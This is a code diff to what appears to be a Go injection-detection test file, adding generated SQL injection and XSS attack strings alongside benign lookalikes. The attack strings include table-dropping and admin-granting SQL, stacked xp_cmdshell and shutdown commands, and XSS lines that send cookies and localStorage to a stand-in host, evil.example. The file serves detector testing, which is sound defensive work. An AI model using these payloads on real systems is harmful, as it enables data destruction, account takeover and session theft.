@@ -63,6 +63,19 @@ func injectionAttacks() map[string][]string {
 	m["sqli"] = append(m["sqli"], "'='", "'-'", "'||'", "'*'", "'^'", "'<'")
 	m["sqli"] = append(m["sqli"], cross(" ", []string{"OR", "AND", "or", "||"}, []string{"1=1", "2>1", "'a'='a'", "1 like 1"}, []string{"", "--", "#"})...)
 
+	// A whole value that is a statement wiping a table, or one whose
+	// condition is a tautology, or a number and a stacked statement.
+	for _, t := range []string{"users", "`users`", "dbo.users", "[users]"} {
+		for _, end := range []string{";", "; --", "--", "#", ";#"} {
+			m["sqli"] = append(m["sqli"], "DROP TABLE "+t+end, "drop table if exists "+t+end, "TRUNCATE TABLE "+t+end, "DELETE FROM "+t+end)
+		}
+		for _, cond := range []string{"1=1", "'a'='a'", "2>1"} {
+			m["sqli"] = append(m["sqli"], "DELETE FROM "+t+" WHERE "+cond, "UPDATE "+t+" SET role='admin' WHERE "+cond, "update "+t+" set pass='x' where id=1 or "+cond+"--")
+		}
+		m["sqli"] = append(m["sqli"], "INSERT INTO "+t+" VALUES (1,'x')", "insert into "+t+"(name,role) values('x','admin');--")
+	}
+	m["sqli"] = append(m["sqli"], cross("", []string{"1", "1'", "2)"}, []string{";", "; "}, []string{"SELECT *", "select @@version", "SELECT 1,2", "select user()", "DELETE FROM users", "DROP TABLE users", "exec xp_cmdshell 'dir'", "DECLARE @x int", "WAITFOR DELAY '0:0:5'", "shutdown"})...)
+
 	// JavaScript that sends the page's cookie away or calls a dialog
 	// through an alias.
 	for _, sink := range []string{"new Image().src=%s", "location=%s", "fetch(%s)", "document.location.href=%s"} {
@@ -74,6 +87,10 @@ func injectionAttacks() map[string][]string {
 	}
 	m["xss"] = append(m["xss"], "navigator.sendBeacon('//evil.example',document.cookie)", "fetch('//evil.example',{method:'POST',body:localStorage})",
 		"a=alert,a(1)", "p=prompt;p`1`", "c=confirm;c(document.domain)", "x = eval; x(name)", "Reflect.apply(alert,null,[1])", "Reflect.construct(Function,['alert(1)'])")
+	// A script string left after at most a word, then any call or an
+	// assignment to a property or navigating global, then the rest of
+	// the line commented out or the string reopened.
+	m["xss"] = append(m["xss"], cross("", []string{"'", "\"", "x'", "`"}, []string{";", "-", "+", "*", "||"}, []string{"queueMicrotask(alert)", "structuredClone(alert)", "location=name", "document.body.innerHTML=1", "self.location.href='//evil.example'", "top.opener=null", "fn`1`"}, []string{"//", "-'", "+\"", ";//"})...)
 	return m
 }
 
@@ -99,6 +116,10 @@ var injectionBenign = []string{
 	"New-York-Style Pizza", "get-started guide", "sc query is a Windows command", "netsh is used for network configuration", "findstr /i is like grep", "net use Z: \\\\server\\share", "copy /b file1+file2 out",
 	// SQL words and quotes in prose.
 	"OR 1=1 explained", "and 1 more", "or 2 others", "a = 5 or b = 6", "'-' means no value", "'=' is the assignment operator", "'*' wildcard", "it's 'x' or 'y' -- maybe",
+	// Whole statements of documentation, labels and quoted parameters.
+	"Delete from cart", "delete from favorites", "Drop table tennis", "drop database connection", "Update profile set", "truncate table in mysql tutorial", "DROP TABLE syntax", "Insert into cart",
+	"UPDATE point SET x = 1 WHERE y = 2;", "10;select the best", "3.5; delete me", "delete from list -- keep the rest", "INSERT INTO is used to add rows",
+	`"; charset=utf-8"`, "'; q=0.9'", "'use strict'; module.exports = x", `"a", b(c)`, `", see(below)"`, "'hello' + world", `"foo" - bar(baz)`, "O'Neil; call me", `"a" + b + "c"`, `"quoted"; then more`,
 	// Cookies, beacons and dialogs in code.
 	"a=alert,b=warning", "level=alert; status=ok", "severity=alert, msg=disk full", "mode=confirm;next=2", "navigator.sendBeacon('/analytics', data)",
 	"fetch('/api/items').then(r => r.json())", "localStorage.setItem('k', 'v')", "Reflect.apply(fn, obj, args)", "Reflect.ownKeys(obj)",
